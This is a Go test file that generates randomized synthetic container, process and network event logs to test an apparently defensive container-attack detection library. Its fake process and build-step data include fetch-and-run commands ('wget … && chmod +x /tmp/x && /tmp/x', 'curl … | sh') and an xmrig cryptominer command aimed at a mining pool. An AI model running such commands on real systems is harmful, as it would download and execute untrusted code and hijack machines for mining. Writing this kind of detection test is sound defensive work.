package partition_test

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"net/url"
	"strconv"
	"strings"
	"testing"

	"tidewaiter/analytic"
	"tidewaiter/detections"
	"tidewaiter/event"
	"tidewaiter/image"
	"tidewaiter/policy"
)

func library(t testing.TB) *analytic.Library {
	t.Helper()
	lib, err := analytic.Load(detections.Files())
	if err != nil {
		t.Fatal(err)
	}
	return lib
}

func randomPolicy(t *testing.T, lib *analytic.Library, rng *rand.Rand) *policy.Policy {
	t.Helper()
	if rng.IntN(4) == 0 {
		return policy.Empty(lib.Vocabulary())
	}
	text := `version: 1
learning: 10m
settings:
  publishers: ["good.example/* by ci"]
  pushers: ["ci"]
default_scope: all
scopes:
  all:
    registries: ["good.example/*"]
    approved_destinations: ["10.0.0.0/8", "198.51.100.20", "*.good.example"]
    mutable_tags: false
    vm_images: ["owner:good"]
    image_factories: [factory]
    automation+: [ci]
  special:
    inherits: all
    match: {hosts: ["h1"]}
    approved_images: ["good.example/app@` + digest(1).String() + `"]
`
	p, err := policy.Read(strings.NewReader(text), "test", lib.Vocabulary())
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func digest(n int) image.Digest {
	d, err := image.ParseDigest(fmt.Sprintf("sha256:%064x", n))
	if err != nil {
		panic(err)
	}
	return d
}

// world is a random set of events. It is made to collide: hosts share
// container images, process ids and addresses are given again, clocks differ,
// look-ups and links may be missing.
func world(rng *rand.Rand) []event.Event {
	w := &worldMaker{rng: rng}
	w.coarse = w.maybe(40)
	hosts := 1 + rng.IntN(3)
	for h := range hosts {
		w.host, w.cluster = fmt.Sprintf("h%d", h), ""
		if w.maybe(50) {
			w.cluster = fmt.Sprintf("k%d", rng.IntN(2))
		}
		for c := range 1 + rng.IntN(3) {
			w.container(h*10 + c)
		}
		w.noise()
	}
	for n := range rng.IntN(3) { // on the last host
		w.build(n)
		w.implant(n)
	}
	if w.maybe(40) {
		w.machines(1 + rng.IntN(4))
	}
	return w.events
}

type worldMaker struct {
	rng  *rand.Rand
	host string
	// cluster is the one that the host is a node of, "" if of none.
	cluster string
	// account and region are a cloud's, "" for records of none.
	account, region string
	events          []event.Event
	line            int
	coarse          bool // Docker's clock shows whole seconds, as its text form can
}

const epoch = int64(1_800_000_000) * event.Second

func (w *worldMaker) add(src event.Source, at int64, res int64, b event.Body) {
	w.line++
	if w.coarse && src == event.Docker {
		res = event.Second
	}
	e := event.Event{Place: event.Place{Account: w.account, Region: w.region, Cluster: w.cluster, Host: w.host}, Body: b,
		Origin: event.Origin{Source: src, Format: string(src), File: w.host + "/" + string(src) + ".log", Spans: []event.Span{{Line: w.line}}}}
	if at != 0 {
		e.Time = event.Time{At: at / res * res, Res: res}
	}
	e.ID = event.NewID(w.host, strconv.Itoa(w.line))
	w.events = append(w.events, e)
	if w.rng != nil && w.maybe(8) {
		w.copies(e)
	}
}

// copies adds the same event once more as another file holds it: a rotated
// part, or an older copy that counts as history.
func (w *worldMaker) copies(e event.Event) {
	e.Origin.File = w.host + "/" + []string{"a", "z"}[w.rng.IntN(2)] + string(e.Origin.Source) + ".1"
	e.Origin.Spans = []event.Span{{Line: 1 + w.rng.IntN(3)}}
	e.History = w.maybe(30)
	w.events = append(w.events, e)
}

// maybe reports true with the given percentage.
func (w *worldMaker) maybe(percent int) bool { return w.rng.IntN(100) < percent }

func (w *worldMaker) container(n int) {
	rng := w.rng
	start := epoch + int64(rng.IntN(1800))*event.Second
	id := fmt.Sprintf("%064x", 0xabc000+n)
	imageNo := rng.IntN(4)
	ref := image.Parse([]string{"good.example/app:1", "evil.example/app:1", "ngnix/nginx", "sha256:" + strings.Repeat("ab", 32)}[imageNo])
	pid := 100 + rng.IntN(3) // reused on purpose
	addr := netip.AddrFrom4([4]byte{172, 17, 0, byte(2 + rng.IntN(2))})
	arrived := start - int64(rng.IntN(1200))*event.Second
	if w.maybe(80) {
		w.add(event.Docker, arrived, event.Nanosecond, &event.Image{
			Action: []event.ImageAction{event.ImagePull, event.ImagePull, event.ImageLoad, event.ImageTag}[rng.IntN(4)], Reference: ref, Digest: maybeDigest(w, imageNo)})
	}
	if w.maybe(30) {
		pushed := &event.RegistryAction{Action: "push", Reference: ref, Digest: digest(imageNo + 50*rng.IntN(2)), By: event.Principal{Name: []string{"ci", "mallory"}[rng.IntN(2)]}}
		w.add(event.Registry, start-int64(rng.IntN(3000)-60)*event.Second, event.Millisecond, pushed)
	}
	if w.maybe(20) { // the tag was moved in the same instant
		w.add(event.Docker, arrived, event.Nanosecond, &event.Image{Action: event.ImagePull, Reference: ref, Digest: digest(50 + rng.IntN(2))})
	}
	if w.maybe(90) {
		w.add(event.Docker, start, event.Nanosecond, &event.Container{Action: event.ContainerCreate, ID: id, Name: fmt.Sprint("c", n), Image: ref})
	}
	if w.maybe(90) {
		w.add(event.Docker, start+event.Second, event.Nanosecond, &event.Container{Action: event.ContainerStart, ID: id, Name: fmt.Sprint("c", n), Image: ref})
	}
	if w.maybe(80) {
		w.add(event.Containerd, start+900*event.Millisecond, event.Nanosecond, &event.Task{Action: event.TaskCreate, Container: id, PID: pid})
	}
	w.lookups(n, id, ref, imageNo, pid, addr, start)
	w.add(event.Docker, start+800*event.Millisecond, event.Nanosecond, &event.NetworkAttachment{Container: id, NetworkID: "n", Connected: true})
	w.processes(id, pid, start)
	w.traffic(addr, start)
	if w.cluster != "" {
		w.pod(n, id, ref, imageNo, addr, start)
	}
	if w.maybe(60) {
		end := start + int64(rng.IntN(1500))*event.Second
		w.add(event.Docker, end, event.Nanosecond, &event.Container{Action: event.ContainerExit, ID: id})
		w.add(event.Containerd, end-event.Millisecond, event.Nanosecond, &event.Task{Action: event.TaskExit, Container: id, PID: pid})
		w.add(event.Docker, end+event.Millisecond, event.Nanosecond, &event.NetworkAttachment{Container: id, NetworkID: "n"})
	}
}

func maybeDigest(w *worldMaker, n int) image.Digest {
	if w.maybe(50) {
		return digest(n)
	}
	return image.Digest{}
}

func (w *worldMaker) lookups(n int, id string, ref image.Reference, imageNo, pid int, addr netip.Addr, start int64) {
	if w.maybe(75) {
		w.add(event.Inspect, 0, 1, &event.ContainerDescription{ID: id, Name: fmt.Sprint("c", n), Image: ref, ImageID: digest(imageNo), PID: pid,
			StartedAt: event.Time{At: start + event.Second, Res: 1}, Risk: event.Risk{Privileged: w.maybe(10)},
			HealthCheck: []string{"/bin/sh", "-c", "wget http://198.51.100.99/health"},
			Networks:    []event.NetworkAddress{{NetworkID: "n", Addrs: []netip.Addr{addr}}}})
	}
	if w.maybe(60) {
		d := &event.ImageDescription{ID: digest(imageNo), RepoTags: []image.Reference{ref}}
		if w.maybe(60) {
			d.RepoDigests = []image.Reference{image.Parse("good.example/app@" + digest(100+imageNo).String())}
		}
		w.add(event.Inspect, 0, 1, d)
	}
	if w.maybe(20) {
		// A CRI runtime's three names of one pull.
		at := start - 30*event.Second
		w.add(event.Containerd, at, 1, &event.Image{Action: event.ImageCreate, Reference: ref, Namespace: "k8s.io"})
		w.add(event.Containerd, at+event.Millisecond, 1, &event.Image{Action: event.ImageCreate, Reference: image.Parse("good.example/app@" + digest(200+imageNo).String()), Namespace: "k8s.io"})
		w.add(event.Containerd, at+2*event.Millisecond, 1, &event.Image{Action: event.ImageCreate, Reference: image.Parse(digest(imageNo).String()), Namespace: "k8s.io"})
	}
}

func (w *worldMaker) processes(id string, pid int, start int64) {
	rng := w.rng
	commands := [][]string{
		{"/bin/sh", "-c", "wget -q -O /tmp/x http://198.51.100.10/x && chmod +x /tmp/x && /tmp/x"},
		{"wget", "-O", "/tmp/x", "http://198.51.100.10/x"},
		{"/tmp/x"},
		{"/app/server"},
		{"xmrig", "-o", "stratum+tcp://pool.minexmr.com:4444"},
		{"sh", "-c", "curl -s http://203.0.113.7/i | sh"},
		{"/bin/sh", "-c", "wget http://198.51.100.99/health"},
		{"python3", "-c", "print(1)"},
	}
	shim := 50 + rng.IntN(2)
	if w.maybe(70) {
		w.exec(start+500*event.Millisecond, shim, 1, "/usr/bin/containerd-shim-runc-v2", []string{"containerd-shim-runc-v2", "-namespace", "moby", "-id", id}, "08:01")
	}
	if w.maybe(50) {
		w.exec(start+600*event.Millisecond, 60+rng.IntN(3), shim, "/usr/bin/runc", []string{"runc", "--root", "/r", "create", id}, "08:01")
	}
	dev := fmt.Sprintf("00:%02d", 20+rng.IntN(2))
	parents := []int{shim, pid, 150 + rng.IntN(3)}
	at := start + event.Second
	for i := range rng.IntN(6) {
		self := pid
		if i > 0 {
			self = 150 + rng.IntN(6)
		}
		at += int64(rng.IntN(400_000)) * event.Millisecond
		args := commands[rng.IntN(len(commands))]
		w.exec(at, self, parents[rng.IntN(len(parents))], "/bin/"+event.ProgramName(args[0]), args, dev)
		parents = append(parents, self)
	}
	if w.maybe(30) {
		w.add(event.Auditd, at+event.Second, 10*event.Millisecond, &event.FileWrite{PID: pid, PPID: shim, Path: "/tmp/x"})
	}
	if w.maybe(30) {
		w.add(event.Docker, at+2*event.Second, 1, &event.ExecStarted{Container: id, ExecID: "e1", Command: "sh -c curl http://203.0.113.8/"})
		w.add(event.Containerd, at+2*event.Second, 1, &event.Task{Action: event.TaskStart, Container: id, ExecID: "e1", PID: 170})
		w.exec(at+2*event.Second, 170, 60, "/bin/sh", []string{"sh", "-c", "curl http://203.0.113.8/"}, dev)
	}
}

func (w *worldMaker) exec(at int64, pid, ppid int, exe string, args []string, dev string) {
	w.add(event.Auditd, at, 10*event.Millisecond, &event.Process{PID: pid, PPID: ppid, Exe: exe, Args: args, Device: dev, UID: 0, AUID: -1})
}

func (w *worldMaker) traffic(addr netip.Addr, start int64) {
	rng := w.rng
	remotes := []string{"198.51.100.10:80", "203.0.113.66:3333", "198.51.100.20:443", "10.1.2.3:5432", "203.0.113.9:443"}
	for range rng.IntN(4) {
		at := start + int64(rng.IntN(1_600_000))*event.Millisecond
		dst := netip.MustParseAddrPort(remotes[rng.IntN(len(remotes))])
		f := &event.Flow{Protocol: "tcp", Src: netip.AddrPortFrom(addr, uint16(40000+rng.IntN(1000))), Dst: dst, BytesOut: 10, BytesIn: 20, Answered: true}
		if w.maybe(30) {
			f.End = event.Time{At: at + 3600*event.Second, Res: event.Microsecond}
		}
		if w.maybe(10) {
			at = 0 // its start is not known
		}
		w.add(event.Conntrack, at, event.Microsecond, f)
	}
	if w.maybe(40) {
		w.add(event.Zeek, start+event.Second, event.Microsecond, &event.DNS{
			Client: netip.AddrPortFrom(addr, 5353), Query: []string{"pool.minexmr.com", "cdn.good.example", "x.example"}[rng.IntN(3)],
			Addrs: []netip.Addr{netip.MustParseAddr("203.0.113.9"), netip.MustParseAddr("203.0.113.66")}, Code: "NOERROR"})
	}
}

// build has an image built, asked for in one of several ways, and a container of
// it run.
func (w *worldMaker) build(n int) {
	rng := w.rng
	at := epoch + int64(rng.IntN(1800))*event.Second
	tag := image.ParseDocker([]string{"tool:1", "tool:2"}[rng.IntN(2)])
	made, host := digest(300+rng.IntN(3)), netip.MustParseAddr("10.1.0.9")
	client, api := netip.AddrPortFrom(netip.MustParseAddr("203.0.113.25"), 39912), netip.AddrPortFrom(host, 2375)
	if w.maybe(50) {
		w.add(event.Inventory, 0, 1, &event.HostDescription{Addrs: []netip.Addr{host}})
	}
	if w.maybe(50) {
		w.add(event.Conntrack, at, event.Microsecond, &event.Flow{Protocol: "tcp", Src: client, Dst: api, Answered: true})
	}
	if w.maybe(50) {
		w.add(event.Zeek, at+event.Second/10, event.Microsecond, &event.HTTP{Client: client, Server: api, Method: "POST", URI: "/v1.41/build?t=" + tag.Familiar()})
	}
	if w.maybe(50) {
		w.add(event.Dockerd, at+event.Second/5, 1, &event.APIRequest{Method: "POST", Path: "/build", Query: url.Values{"t": {tag.Familiar()}}})
	}
	if w.maybe(30) {
		w.exec(at, 400, 1, "/usr/bin/docker", []string{"docker", "-H", "tcp://127.0.0.1:2375", "build", "-t", tag.Familiar(), "."}, "08:01")
	}
	if w.maybe(30) {
		w.add(event.Dockerd, at+2*event.Second, 1, &event.BuildStep{ID: "s", Command: []string{"sh", "-c", "curl http://203.0.113.7/i | sh"}})
	}
	if w.maybe(50) {
		w.add(event.Docker, at+event.Second, 1, &event.Image{Action: event.ImagePull, Reference: image.Parse("good.example/base:1"), Digest: digest(400 + rng.IntN(2))})
	}
	if w.maybe(60) {
		step := fmt.Sprintf("%064x", 0xdef000+n)
		w.add(event.Docker, at+2*event.Second, 1, &event.Container{Action: event.ContainerCreate, ID: step, Image: image.Parse(digest(400).String())})
		w.add(event.Containerd, at+3*event.Second, 1, &event.Task{Action: event.TaskStart, Container: step, PID: 410})
		w.exec(at+3*event.Second, 410, 60, "/bin/sh", []string{"sh", "-c", "wget http://203.0.113.66/x"}, "00:30")
		w.add(event.Docker, at+int64(4+rng.IntN(8))*event.Second, 1, &event.Container{Action: event.ContainerExit, ID: step})
	}
	if w.maybe(60) {
		w.add(event.Conntrack, at+4*event.Second, event.Microsecond, &event.Flow{Protocol: "tcp", Src: netip.AddrPortFrom(host, 41000), Dst: netip.MustParseAddrPort("203.0.113.66:80"), Answered: true})
	}
	if w.maybe(40) { // by BuildKit
		step := fmt.Sprintf("%025d", 100+rng.IntN(2))
		w.exec(at+3*event.Second, 420, 1, "/usr/bin/runc", []string{"runc", "run", "--bundle", "/b/executor/" + step, step}, "08:01")
		w.exec(at+3*event.Second+event.Second/2, 421, 420, "/bin/sh", []string{"sh", "-c", "wget http://203.0.113.66/x"}, "00:31")
		bridged := netip.AddrPortFrom(netip.AddrFrom4([4]byte{172, 17, 0, byte(2 + rng.IntN(3))}), 41001)
		w.add(event.Conntrack, at+4*event.Second, event.Microsecond, &event.Flow{Protocol: "tcp", Src: bridged, Dst: netip.MustParseAddrPort("203.0.113.66:80"), Via: host, Answered: true})
	}
	w.add(event.Docker, at+9*event.Second, 1, &event.Image{Action: []event.ImageAction{event.ImageTag, event.ImageBuild, event.ImageCreate}[rng.IntN(3)], Reference: tag, Digest: made})
	run := fmt.Sprintf("%064x", 0xfed000+n)
	if w.maybe(50) {
		w.add(event.Zeek, at+int64(9+rng.IntN(20))*event.Second, event.Microsecond, &event.HTTP{Client: client, Server: api, Method: "POST", URI: "/v1.41/containers/create"})
	}
	if w.maybe(50) {
		w.add(event.Dockerd, at+10*event.Second, 1, &event.APIRequest{Method: "POST", Path: "/containers/create", Create: &event.ContainerDescription{Image: tag, Risk: event.Risk{Privileged: w.maybe(50)}}})
	}
	w.add(event.Docker, at+11*event.Second, 1, &event.Container{Action: event.ContainerCreate, ID: run, Name: fmt.Sprint("b", n), Image: tag})
	if w.maybe(60) {
		w.add(event.Docker, at+int64(20+rng.IntN(900))*event.Second, 1, &event.Container{Action: event.ContainerExit, ID: run})
	}
}

// implant has an image made of a container and something pushed under one of the
// names that containers run by.
func (w *worldMaker) implant(n int) {
	rng := w.rng
	at := epoch + int64(rng.IntN(1800))*event.Second
	name := []string{"good.example/app:1", "good.example/base:1"}[rng.IntN(2)]
	c := fmt.Sprintf("%064x", 0xace000+n)
	w.add(event.Docker, at-600*event.Second, 1, &event.Container{Action: event.ContainerCreate, ID: c, Image: image.Parse(name)})
	if w.maybe(50) {
		w.add(event.Docker, at-100*event.Second, 1, &event.ExecStarted{Container: c, ExecID: "e", Command: "sh -c id"})
	}
	if w.maybe(70) {
		made := &event.Image{Action: event.ImageCommit, Container: c, Digest: digest(500 + rng.IntN(2))}
		if w.maybe(50) {
			made.Reference = image.Parse(name)
		}
		w.add(event.Docker, at-10*event.Second, 1, made)
		w.add(event.Docker, at-int64(rng.IntN(9))*event.Second, 1, &event.Image{Action: event.ImageTag, Reference: image.Parse(name), Digest: digest(500 + rng.IntN(2))})
	}
	if w.maybe(30) {
		w.add(event.Docker, at+20*event.Second, 1, &event.Container{Action: event.ContainerRemove, ID: c})
	}
	defer func(host, cluster string) { w.host, w.cluster = host, cluster }(w.host, w.cluster)
	w.host, w.cluster = "hub", "" // the registry's records are from elsewhere
	for range rng.IntN(3) {
		w.add(event.Registry, at+int64(rng.IntN(300))*event.Second, event.Millisecond, &event.RegistryAction{Action: "push", Reference: image.Parse(name), Digest: digest(100 + rng.IntN(3)),
			By: event.Principal{Name: []string{"ci", "bob"}[rng.IntN(2)]}})
	}
}

func (w *worldMaker) noise() {
	for range w.rng.IntN(5) {
		w.exec(epoch+int64(w.rng.IntN(3600))*event.Second, 100+w.rng.IntN(80), 1+w.rng.IntN(180), "/usr/bin/ls", []string{"ls"}, "08:01")
	}
}
